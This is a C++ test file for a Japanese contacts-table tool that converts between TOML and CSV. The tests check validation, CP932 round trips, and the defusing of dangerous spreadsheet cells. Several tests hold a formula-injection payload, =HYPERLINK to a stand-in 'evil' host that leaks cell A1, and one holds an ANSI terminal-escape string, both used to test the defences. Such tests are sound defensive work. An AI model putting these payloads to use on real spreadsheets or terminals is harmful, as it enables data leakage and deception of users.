#include <doctest/doctest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "contacts/contacts.h"
#include "contacts/contacts_csv.h"
#include "core/encoding.h"
#include "helpers.h"

using namespace mamori;
using mamori::testing::formatted;
using mamori::testing::TempDir;

namespace {

const char* const kTable =
    "reviewed = 2025-05-01\n"
    "\n"
    "[[contact]]\n"
    "group = \"県内の窓口\"\n"
    "topic = \"経済安全保障全般\"\n"
    "organization = \"愛知県 経済産業局\"\n"
    "url = \"https://www.pref.aichi.jp/soshiki/san-kagi/\"\n"
    "phone = \"０５２－９５４－６３７０\"\n"
    "\n"
    "[[contact]]\n"
    "group = \"県内の窓口\"\n"
    "topic = \"経済安全保障に関するご相談\"\n"
    "organization = \"中部公安調査局\"\n"
    "url = \"https://www.moj.go.jp/psia/kouan_mail_keizaianpo.html\"\n"
    "note = \"左記URLよりお問い合わせください\"\n";

std::string read(const std::filesystem::path& file) {
  std::ifstream in(file, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

}  // namespace

TEST_SUITE("contacts") {
  TEST_CASE("a valid table is read and its phone numbers normalised") {
    std::vector<Diagnostic> out;
    const ContactTable table = parse_contacts(kTable, out);
    CHECK(formatted(out).empty());
    CHECK(table.reviewed == Date{2025, 5, 1});
    REQUIRE(table.contacts.size() == 2);
    CHECK(table.contacts[0].phone == "052-954-6370");
    CHECK(table.contacts[1].phone.empty());
    CHECK(table.contacts[1].note == "左記URLよりお問い合わせください");
  }

  TEST_CASE("every problem is reported with its position") {
    std::vector<Diagnostic> out;
    parse_contacts("reviewed = 2025-02-29\n", out);
    CHECK(formatted(out) == std::vector<std::string>{
                                "1:22: error: invalid TOML: date: expected day between 1 and 28 (inclusive), saw 29"});
    out.clear();
    parse_contacts(
        "[[contact]]\n"
        "group = \"県内\"\n"
        "topic = \"a\"\n"
        "organisation = \"b\"\n"
        "url = \"ftp://x.jp/\"\n"
        "phone = \"03-1234\"\n"
        "\n"
        "[[contact]]\n"
        "group = \"県内\"\n"
        "topic = \"a\"\n"
        "organization = \"b\"\n"
        "phone = \"03-1234-5678\"\n"
        "\n"
        "[[contact]]\n"
        "group = \"県内\"\n"
        "topic = \"a\"\n"
        "organization = \"b\"\n"
        "email = \"x@y.jp\"\n",
        out);
    CHECK(formatted(out) ==
          std::vector<std::string>{
              "1:1: error: missing required key 'reviewed'",
              "4:1: error: unknown key 'contact[1].organisation' (did you mean 'contact[1].organization'?)",
              "2:1: error: missing 相談先 (organization)",
              "5:7: error: URL 'ftp://x.jp/' must start with https:// or http://",
              "6:9: error: phone number '03-1234' is not a Japanese phone number: write it like 052-954-6370",
              "15:1: error: no phone number: give one, or say in 備考 (note) how to reach this window, e.g. "
              "\"ウェブサイトのフォームから問い合わせます\"",
              "15: error: duplicate entry: 'a' at 'b' is already listed at line 9"});
  }

  TEST_CASE("the canonical TOML parses back to the same table") {
    std::vector<Diagnostic> out;
    const ContactTable table = parse_contacts(kTable, out);
    const std::string canonical = contacts_to_toml(table);
    const ContactTable again = parse_contacts(canonical, out);
    CHECK(out.empty());
    CHECK(contacts_to_toml(again) == canonical);
    CHECK(canonical.find("phone = \"052-954-6370\"") != std::string::npos);
  }

  TEST_CASE("export writes UTF-8 with a BOM, CRLF and Japanese column names") {
    std::vector<Diagnostic> out;
    const std::string csv = contacts_to_csv(parse_contacts(kTable, out));
    CHECK(csv.starts_with("\xEF\xBB\xBF最終確認日,2025-05-01\r\n区分,相談内容,相談先,URL,電話番号,メール,備考\r\n"));
    CHECK(csv.find("県内の窓口,経済安全保障全般,愛知県 経済産業局,https://www.pref.aichi.jp/soshiki/san-kagi/,"
                   "052-954-6370,,\r\n") != std::string::npos);
  }

  TEST_CASE("export then import gives the same table, also through CP932") {
    std::vector<Diagnostic> out;
    const ContactTable table = parse_contacts(kTable, out);
    const std::string csv = contacts_to_csv(table);
    const ContactTable back = contacts_from_csv(csv, out);
    CHECK(formatted(out).empty());
    CHECK(contacts_to_toml(back) == contacts_to_toml(table));
    const auto sjis = encode_cp932(csv.substr(3));  // Excel's "CSV (コンマ区切り)" has no BOM
    REQUIRE(sjis.has_value());
    CHECK(contacts_to_toml(contacts_from_csv(*sjis, out)) == contacts_to_toml(table));
    CHECK(out.empty());
  }

  TEST_CASE("export neutralises cells a spreadsheet would run as formulas") {
    std::vector<Diagnostic> out;
    ContactTable table = parse_contacts(kTable, out);
    REQUIRE(out.empty());
    table.contacts[0].note = "=HYPERLINK(\"http://evil/?\"&A1,\"詳細\")";
    table.contacts[0].topic = "+経済安全保障";
    table.contacts[1].organization = "@中部公安調査局";
    table.contacts[1].note = "-平日のみ";
    table.contacts[1].topic = "'=引用符つき";
    table.contacts[1].group = "'そのまま";
    const std::string csv = contacts_to_csv(table);
    CHECK(csv.find("県内の窓口,'+経済安全保障,愛知県 経済産業局,https://www.pref.aichi.jp/soshiki/san-kagi/,"
                   "052-954-6370,,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"詳細\"\")\"\r\n") != std::string::npos);
    CHECK(csv.find("'そのまま,''=引用符つき,'@中部公安調査局,https://www.moj.go.jp/psia/kouan_mail_keizaianpo.html,,,"
                   "'-平日のみ\r\n") != std::string::npos);
    // …and import takes the apostrophes off again: the round trip is exact.
    const ContactTable back = contacts_from_csv(csv, out);
    CHECK(formatted(out).empty());
    CHECK(contacts_to_toml(back) == contacts_to_toml(table));
  }

  TEST_CASE("neutralising and its reverse") {
    CHECK(neutralize_cell("=1+1") == "'=1+1");
    CHECK(neutralize_cell("\t=1") == "'\t=1");
    CHECK(neutralize_cell("'abc") == "'abc");
    CHECK(neutralize_cell("''") == "'''");
    CHECK(neutralize_cell("＝全角") == "＝全角");
    CHECK(neutralize_cell("052-954-6370") == "052-954-6370");
    for (const std::string v : {"=1+1", "'=1", "''", "'", "'abc", "abc", "-", "@", "''=x", "＋α"}) {
      CAPTURE(v);
      const auto back = unneutralize_cell(neutralize_cell(v));
      REQUIRE(std::holds_alternative<std::string>(back));
      CHECK(std::get<std::string>(back) == v);
    }
  }

  TEST_CASE("import refuses cells that start like formulas, by row and column") {
    std::vector<Diagnostic> out;
    contacts_from_csv(
        "最終確認日,2025-05-01\n"
        "区分,相談内容,相談先,URL,電話番号,メール,備考\n"
        "県内,a,b,,03-1234-5678,,\"=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"\n"
        "県内,c,  @SUM(1),,+81-52-954-6370,,-平日のみ\n"
        "県内,d,e,,03-1234-5678,,'-平日のみ\n",
        out);
    CHECK(formatted(out) ==
          std::vector<std::string>{
              "3:7: error: '=HYPERLINK(\"http://evil/?\"&A1,\"x\")' starts with '=', which Excel runs as a formula: "
              "remove it, or write an apostrophe before it ('=…) to keep it as text, as mamori contacts export does",
              "4:3: error: '@SUM(1)' starts with '@', which Excel runs as a formula: remove it, or write an apostrophe "
              "before it ('@…) to keep it as text, as mamori contacts export does",
              "4:5: error: '+81-52-954-6370' starts with '+', which Excel runs as a formula: remove it, or write an "
              "apostrophe before it ('+…) to keep it as text, as mamori contacts export does",
              "4:7: error: '-平日のみ' starts with '-', which Excel runs as a formula: remove it, or write an "
              "apostrophe before it ('-…) to keep it as text, as mamori contacts export does",
              "4: error: missing 相談先 (organization)"});
  }

  // Found by attacking the binary: such a cell was written into contacts.toml, which the
  // next build then refused, and the change list printed it raw on the terminal.
  TEST_CASE("import refuses cells holding control characters") {
    std::vector<Diagnostic> out;
    contacts_from_csv(
        "最終確認日,2025-05-01\n"
        "区分,相談内容,相談先,URL,電話番号,メール,備考\n"
        "県内,a,\"o\x1b[31mRED\",,03-1234-5678,,\"x\xc2\x85y\"\n",
        out);
    CHECK(formatted(out) ==
          std::vector<std::string>{
              "3:3: error: the cell holds a control character (U+001B), which cannot be shown on a page: remove it",
              "3:7: error: the cell holds a control character (U+0085), which cannot be shown on a page: remove it",
              "3: error: missing 相談先 (organization)"});
  }

  TEST_CASE("import reads Excel's date styles, any column order, and skips blank rows") {
    std::vector<Diagnostic> out;
    const ContactTable table = contacts_from_csv(
        "最終確認日,2026/4/1\n"
        "電話番号,相談先,相談内容,区分\n"
        ",,,\n"
        "03-5978-7509,IPA,サイバー,国の窓口\n",
        out);
    CHECK(formatted(out).empty());
    CHECK(table.reviewed == Date{2026, 4, 1});
    REQUIRE(table.contacts.size() == 1);
    CHECK(table.contacts[0].organization == "IPA");
    CHECK(parse_loose_date("2025年5月1日") == Date{2025, 5, 1});
    CHECK_FALSE(parse_loose_date("2025/2/30").has_value());
  }

  TEST_CASE("import problems are reported by CSV row and column") {
    std::vector<Diagnostic> out;
    contacts_from_csv(
        "最終確認日,いつか\n"
        "区分,相談内容,相談先,URL,電話,備考\n"
        "県内,a,b,javascript:x,03-1234-5678,\n"
        "県内,a,b,,,連絡はウェブで,余分\n",
        out);
    CHECK(formatted(out) == std::vector<std::string>{
                                "1:2: error: 'いつか' is not a date: write it like 2025-05-01",
                                "2:5: error: unknown column '電話' (did you mean '電話番号'?)",
                                "3:4: error: URL 'javascript:x' must start with https:// or http://",
                                "3: error: no phone number: give one, or say in 備考 (note) how to reach this window, "
                                "e.g. \"ウェブサイトのフォームから問い合わせます\"",
                                "4:7: error: row 4 has a value in column 7, which has no header",
                                "4: error: duplicate entry: 'a' at 'b' is already listed at row 3"});
  }

  TEST_CASE("import replaces contacts.toml only when every row is valid, keeping a backup") {
    TempDir dir;
    std::vector<Diagnostic> out;
    const std::string original = contacts_to_toml(parse_contacts(kTable, out));
    dir.write("content/contacts.toml", original);
    dir.write("bad.csv", "最終確認日,2026-01-01\n区分,相談内容,相談先,電話番号\n県内,x,y,12\n");
    ImportResult bad = import_contacts(dir.path(), dir.path() / "bad.csv", false);
    CHECK_FALSE(bad.written);
    REQUIRE(bad.diagnostics.size() == 1);
    CHECK(bad.diagnostics[0].path == (dir.path() / "bad.csv").string());
    CHECK(read(dir.path() / "content/contacts.toml") == original);

    std::string csv = contacts_to_csv(parse_contacts(original, out));
    const size_t at = csv.find("052-954-6370");
    csv.replace(at, 12, "052-954-6371");
    dir.write("good.csv", csv);
    ImportResult dry = import_contacts(dir.path(), dir.path() / "good.csv", true);
    CHECK(dry.changes ==
          std::vector<std::string>{
              "changed: 愛知県 経済産業局（経済安全保障全般） 電話番号 '052-954-6370' → '052-954-6371'"});
    CHECK_FALSE(dry.written);
    CHECK(read(dir.path() / "content/contacts.toml") == original);
    ImportResult done = import_contacts(dir.path(), dir.path() / "good.csv", false);
    CHECK(done.written);
    CHECK(read(dir.path() / "content/contacts.toml.bak") == original);
    CHECK(read(dir.path() / "content/contacts.toml").find("052-954-6371") != std::string::npos);
  }
}
